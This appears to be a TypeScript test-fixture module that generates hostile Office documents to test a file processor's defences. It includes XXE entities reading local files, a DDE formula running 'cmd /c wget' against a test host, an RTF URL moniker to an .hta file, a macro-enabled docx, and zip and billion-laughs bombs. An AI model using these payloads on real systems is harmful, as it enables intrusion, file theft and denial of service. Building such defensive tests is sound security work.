/** Office documents with external references, macros, embedded objects and bombs. */
import { deflateRawSync } from 'node:zlib'
import { everyNth } from '../../support/thorough.ts'
import { hostileDocuments } from '../support/hostile-documents.ts'
import { hostileOffice } from '../support/hostile-office.ts'
import { paragraph, writeDocx } from '../support/write-docx.ts'
import { writeZip } from '../support/write-zip.ts'
import { rawZip } from './archives.ts'
import { type HostileFile, hostile, type Targets } from './hostile-file.ts'

const words = paragraph('Visible words')
const xml = '<?xml version="1.0" encoding="UTF-8"?>'
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

export function officeDocumentsWithExternalReferences(targets: Targets): HostileFile[] {
  const { http, text, image } = targets
  const shared = hostileDocuments({ address: http, imagePath: image, textPath: text })
  return [
    ...shared
      .filter(({ format }) => format !== 'html')
      .map(({ what, format, content }) =>
        hostile('external', `${format}: ${what}`, `letter.${format}`, content),
      ),
    ...everyNth(4, hostileOffice({ address: http, imagePath: image, bookPath: text })).map(
      ({ what, format, content }) => hostile('external', what, `office.${format}`, content),
    ),
    hostile('external', 'docx: an external entity on disk', 'letter.docx', entityDocx(`file://${text}`)),
    hostile('external', 'docx: an external entity on a server', 'letter.docx', entityDocx(`${http}/entity`)),
    hostile('external', 'docx: frames, fonts and audio on a server', 'letter.docx', outsidePartsDocx(http)),
    hostile('external', 'odt: an external entity on disk', 'letter.odt', entityOdt(text)),
    hostile('external', 'xlsx: WEBSERVICE, DDE and links', 'sheet.xlsx', workbook(http, text), [
      'docx',
      'odt',
    ]),
    hostile('external', 'pptx: external images and videos', 'slides.pptx', slides(http, image), ['docx']),
    hostile('external', 'rtf: a URL moniker', 'letter.doc', monikerRtf(http), ['doc', 'rtf']),
    hostile('script', 'docm: a macro document declared as docx', 'letter.docx', macroDocx()),
  ]
}

function docxWith(parts: Readonly<Record<string, string | Buffer>>): Buffer {
  return writeZip({
    '[Content_Types].xml': `${xml}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    '_rels/.rels': relations(['r1', 'officeDocument', 'word/document.xml', '']),
    ...parts,
  })
}

function relations(...items: readonly (readonly [string, string, string, string])[]): string {
  const written = items.map(
    ([id, type, target, mode]) =>
      `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`,
  )
  return `${xml}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${written.join('')}</Relationships>`
}

const wordSpace = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

function entityDocx(target: string): Buffer {
  return docxWith({
    'word/document.xml': `${xml}<!DOCTYPE w:document [<!ENTITY x SYSTEM "${target}">]><w:document ${wordSpace}><w:body><w:p><w:r><w:t>Visible words &x;</w:t></w:r></w:p></w:body></w:document>`,
  })
}

function outsidePartsDocx(http: string): Buffer {
  return writeDocx({
    body: words,
    relations: [
      'frame',
      'font',
      'audio',
      'video',
      'subDocument',
      'customXml',
      'mailMergeSource',
      'control',
    ].map(type => ({ id: `o-${type}`, type, target: `${http}/${type}`, isExternal: true })),
    parts: { settings: '<w:mailMerge><w:dataSource r:id="o-mailMergeSource"/></w:mailMerge><w:linkStyles/>' },
    settingsRelations: [
      { id: 'o-mailMergeSource', type: 'mailMergeSource', target: `${http}/merge`, isExternal: true },
    ],
  })
}

function macroDocx(): Buffer {
  return docxWith({
    'word/document.xml': `${xml}<w:document ${wordSpace}><w:body>${words}</w:body></w:document>`,
    'word/_rels/document.xml.rels': relations(['v', 'vbaProject', 'vbaProject.bin', '']),
    'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex'),
  })
}

function entityOdt(text: string): Buffer {
  return writeZip({
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml': `${xml}<!DOCTYPE x [<!ENTITY x SYSTEM "file://${text}">]><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:text><text:p>Visible words &x;</text:p></office:text></office:body></office:document-content>`,
    'META-INF/manifest.xml': `${xml}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>`,
  })
}

function workbook(http: string, text: string): Buffer {
  const cells = [
    `WEBSERVICE("${http}/w")`,
    `HYPERLINK("${http}/h")`,
    `'file://${text}'#$Sheet1.A1`,
    `cmd|'/c wget ${http}/dde'!A0`,
  ].map((formula, index) => `<c r="A${index + 1}"><f>${formula.replaceAll('"', '&quot;')}</f></c>`)
  return writeZip({
    '[Content_Types].xml': `${xml}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
    '_rels/.rels': relations(['r1', 'officeDocument', 'xl/workbook.xml', '']),
    'xl/workbook.xml': `${xml}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${office}"><sheets><sheet name="S" sheetId="1" r:id="s"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': relations(
      ['s', 'worksheet', 'worksheets/sheet1.xml', ''],
      ['e', 'externalLinkPath', `${http}/link.xlsx`, 'External'],
    ),
    'xl/worksheets/sheet1.xml': `${xml}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${cells.map((cell, index) => `<row r="${index + 1}">${cell}</row>`).join('')}</sheetData></worksheet>`,
  })
}

function slides(http: string, image: string): Buffer {
  return writeZip({
    '[Content_Types].xml': `${xml}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>`,
    '_rels/.rels': relations(['r1', 'officeDocument', 'ppt/presentation.xml', '']),
    'ppt/presentation.xml': `${xml}<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>`,
    'ppt/_rels/presentation.xml.rels': relations(
      ['a', 'image', `${http}/slide.png`, 'External'],
      ['b', 'video', `file://${image}`, 'External'],
    ),
  })
}

/** An OLE object with a URL moniker, a common exploit vector. */
function monikerRtf(http: string): string {
  const address = Buffer.from(`${http}/moniker.hta\0`, 'utf16le').toString('hex')
  return `{\\rtf1\\ansi Visible words\\par{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass htmlfile}{\\*\\objdata 0105000002000000090000004f4c45324c696e6b00e0c9ea79f9bace118c8200aa004ba90b${address}}{\\result x}}\\par}`
}

export function officeDocumentBombs(): HostileFile[] {
  const bomb = (what: string, content: Buffer | string, name = 'letter.docx') =>
    hostile('bomb', what, name, content)
  const megabytes = 1024 * 1024
  const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join(
    '',
  )
  const body = (inner: string) => `${xml}<w:document ${wordSpace}><w:body>${inner}</w:body></w:document>`
  return [
    bomb(
      'docx: a decompression bomb of 330 megabytes',
      docxWith({ 'word/document.xml': body(words), 'word/media/a.xml': Buffer.alloc(330 * megabytes, 32) }),
    ),
    bomb(
      'docx: a billion laughs',
      docxWith({
        'word/document.xml': `${xml}<!DOCTYPE d [<!ENTITY e0 "ha">${laughs}]><w:document ${wordSpace}><w:body><w:p><w:r><w:t>&e10;</w:t></w:r></w:p></w:body></w:document>`,
      }),
    ),
    bomb('docx: deeply nested tables', docxWith({ 'word/document.xml': body(nestedTables(200)) })),
    bomb(
      'docx: deeply nested elements',
      docxWith({
        'word/document.xml': body(`${'<w:smartTag>'.repeat(30_000)}${'</w:smartTag>'.repeat(30_000)}`),
      }),
    ),
    bomb('docx: overlapping entries', overlappingDocx()),
    bomb('rtf: deeply nested groups', `{\\rtf1 ${'{'.repeat(50_000)}a${'}'.repeat(50_000)}}`, 'letter.rtf'),
    bomb(
      'rtf: binary data that exceeds the file',
      `{\\rtf1 Visible words {\\pict\\pngblip\\bin2147483647 abc}}`,
      'letter.rtf',
    ),
    bomb(
      'rtf: a table of maximum width',
      `{\\rtf1 ${'\\trowd\\cellx2147483647'.repeat(500)}\\intbl a\\cell\\row}`,
      'letter.rtf',
    ),
  ]
}

function nestedTables(depth: number): string {
  const open = '<w:tbl><w:tr><w:tc>'
  return `${open.repeat(depth)}${words}${`<w:p/></w:tc></w:tr></w:tbl>`.repeat(depth)}${words}`
}

/** Many entries for the same compressed megabytes: an overlapping zip bomb. */
function overlappingDocx(): Buffer {
  const plain = Buffer.alloc(8 * 1024 * 1024, 32)
  const shared = { packed: deflateRawSync(plain), plain }
  const main = Buffer.from(`${xml}<w:document ${wordSpace}><w:body>${words}</w:body></w:document>`)
  return rawZip([
    { name: '[Content_Types].xml', plain: Buffer.from('<Types/>') },
    { name: 'word/document.xml', plain: main },
    ...Array.from({ length: 200 }, (_, n) => ({
      name: `word/media/${n}.xml`,
      ...shared,
      isSharingBytes: true,
    })),
  ])
}
